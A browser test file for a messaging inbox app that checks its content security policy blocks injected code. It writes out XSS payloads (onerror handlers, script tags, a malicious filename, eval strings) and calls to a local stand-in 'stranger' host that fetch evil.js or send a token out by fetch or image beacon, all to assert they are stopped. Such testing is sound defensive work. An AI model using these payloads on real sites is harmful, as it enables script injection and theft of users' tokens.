/** The content security policy in a real browser: every page lives within it, and what an attacker would add does not run. */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import type { Browser, Page } from "playwright-core";
import { type ServerProcess, startServer } from "../helpers/server-process";
import { until } from "../helpers/until";
import { launch, type Visit, visit, whyNoBrowser } from "./browser";
import { bubble, Customer, openConversation, openInbox, reply } from "./inbox-actions";

const reason = whyNoBrowser();

/** What the policy has stopped on the page so far: directive and address. */
const stopped = (page: Page) => page.evaluate("window.stoppedByPolicy") as Promise<{ directive: string; what: string }[]>;

async function watched(browser: Browser): Promise<Visit & { told: string[] }> {
  const visitor = await visit(browser);
  const told: string[] = [];
  visitor.page.on("console", (message) => {
    if (/content security policy|refused to|trusted type/i.test(message.text())) told.push(message.text());
  });
  await visitor.context.addInitScript(`
    window.stoppedByPolicy = [];
    document.addEventListener("securitypolicyviolation", (event) =>
      window.stoppedByPolicy.push({ directive: event.effectiveDirective, what: event.blockedURI + " " + event.sourceFile }));
  `);
  return Object.assign(visitor, { told });
}

describe.skipIf(reason !== null)("the content security policy", () => {
  let browser: Browser;
  let server: ServerProcess;
  /** A page of somebody else. */
  let stranger: ReturnType<typeof Bun.serve>;

  beforeAll(async () => {
    [browser, server] = await Promise.all([launch(), startServer()]);
    stranger = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      fetch: ({ url }) =>
        url.endsWith(".js")
          ? new Response("window.owned = 'from outside'", { headers: { "content-type": "text/javascript" } })
          : new Response(`<!doctype html><iframe src="${server.url}/sign-in"></iframe>`, {
              headers: { "content-type": "text/html" },
            }),
    });
  });
  afterAll(async () => {
    await browser?.close();
    await stranger?.stop(true);
    await server?.[Symbol.asyncDispose]();
  });

  test("no page breaks it: signed out, each page of the menu, a conversation with every kind of file, an address that leads nowhere", async () => {
    const rosa = await Customer.create(server, "Rosa Condori");
    await rosa.say(`<img src=x onerror="window.owned='by text'"><script>window.owned='by text'</script>`);
    for (const message of [
      { type: "image", caption: "¿Es este?" },
      { type: "audio", voice: true },
      { type: "video" },
      { type: "sticker" },
    ])
      await rosa.send(message);
    await rosa.send({ type: "document", filename: "<img src=x onerror=alert(1)>.pdf" });
    await using visitor = await watched(browser);
    const { page } = visitor;
    const seen: string[] = [];
    const look = async (name: string) => {
      await page.waitForTimeout(400);
      for (const { directive, what } of await stopped(page)) seen.push(`${name}: ${directive} ${what}`);
    };
    await page.goto(`${server.url}/sign-in`);
    await page.getByLabel("E-mail").waitFor();
    await look("/sign-in");
    await openInbox(page, server);
    await openConversation(page, "Rosa Condori");
    await bubble(page, "user", "Es este").waitFor();
    await reply(page, "Sí, es este");
    await bubble(page, "operator", "Sí, es este").waitFor();
    await look("a conversation");
    const links = await page
      .locator("a[href^='/']:not([href^='/api/'])")
      .evaluateAll((all) => all.map((one) => one.getAttribute("href") ?? ""));
    expect(links.length).toBeGreaterThan(1);
    for (const path of [...new Set(links), "/nothing/here"]) {
      await page.goto(server.url + path);
      await page.locator("h1, [role=main], main").first().waitFor();
      await look(path);
    }
    expect(seen).toEqual([]);
    expect(visitor.told).toEqual([]);
    expect(await page.evaluate("window.owned")).toBeUndefined();
  });

  const ATTACKS: [string, string, string][] = [
    [
      "an inline script",
      "const s = document.createElement('script'); s.textContent = 'window.owned = 1'; document.body.append(s)",
      "script-src-elem",
    ],
    [
      "a handler in the markup",
      `document.body.insertAdjacentHTML('beforeend', '<img src="data:x" onerror="window.owned = 1">')`,
      "script-src-attr",
    ],
    [
      "a script of another site",
      "const s = document.createElement('script'); s.src = STRANGER + '/evil.js'; document.body.append(s)",
      "script-src-elem",
    ],
    [
      "a script out of data",
      "const s = document.createElement('script'); s.src = 'data:text/javascript,window.owned=1'; document.body.append(s)",
      "script-src-elem",
    ],
    [
      "a link that is a script",
      "const a = document.createElement('a'); a.href = 'javascript:window.owned=1'; document.body.append(a); a.click()",
      "script-src-elem",
    ],
    ["data carried away", "fetch(STRANGER + '/?token=1').catch(() => {})", "connect-src"],
    ["a picture that carries it away", "new Image().src = STRANGER + '/?token=1'", "img-src"],
    [
      "a form to another site",
      "document.body.insertAdjacentHTML('beforeend', '<form method=post action=' + STRANGER + '></form>'); document.forms[document.forms.length - 1].submit()",
      "form-action",
    ],
    [
      "another base of all addresses",
      "document.head.insertAdjacentHTML('afterbegin', '<base href=' + STRANGER + '/>')",
      "base-uri",
    ],
    ["a plugin", "document.body.insertAdjacentHTML('beforeend', '<object data=' + STRANGER + '/evil></object>')", "object-src"],
    [
      "a frame of another site",
      "document.body.insertAdjacentHTML('beforeend', '<iframe src=' + STRANGER + '/></iframe>')",
      "frame-src",
    ],
  ];
  test.each(ATTACKS)("%s is stopped", async (_, attack, directive) => {
    await using visitor = await watched(browser);
    const { page } = visitor;
    await page.goto(`${server.url}/sign-in`);
    await page.getByLabel("E-mail").waitFor();
    await page.evaluate(`{ const STRANGER = "http://127.0.0.1:${stranger.port}"; ${attack}; undefined }`);
    const found = await until(async () => {
      const all = await stopped(page);
      return all.length > 0 ? all : null;
    });
    expect(found.map((one) => one.directive)).toContain(directive);
    expect(await page.evaluate("window.owned")).toBeUndefined();
    expect(page.url()).toBe(`${server.url}/sign-in`);
  });

  test("code out of text does not run", async () => {
    await using visitor = await watched(browser);
    const { page } = visitor;
    await page.goto(`${server.url}/sign-in`);
    await page.getByLabel("E-mail").waitFor();
    for (const code of ["eval('window.owned = 1')", "new Function('window.owned = 1')()", "setTimeout('window.owned = 1', 0)"])
      await page.evaluate(
        `new Promise((done) => { const run = document.createElement("button"); run.addEventListener("click", () => { try { ${code} } catch {} setTimeout(done, 50) }); setTimeout(() => run.click(), 0); })`,
      );
    expect(await page.evaluate("window.owned")).toBeUndefined();
    expect((await stopped(page)).map(({ directive }) => directive)).toContain("script-src");
  });

  test("nobody frames our pages", async () => {
    await using visitor = await watched(browser);
    const { page } = visitor;
    await page.goto(`http://127.0.0.1:${stranger.port}/`);
    const frame = await until(() => page.frames().find((one) => one !== page.mainFrame() && one.url() !== "about:blank"));
    await page.waitForTimeout(300);
    expect(await frame.locator("app-root").count()).toBe(0);
  });
});
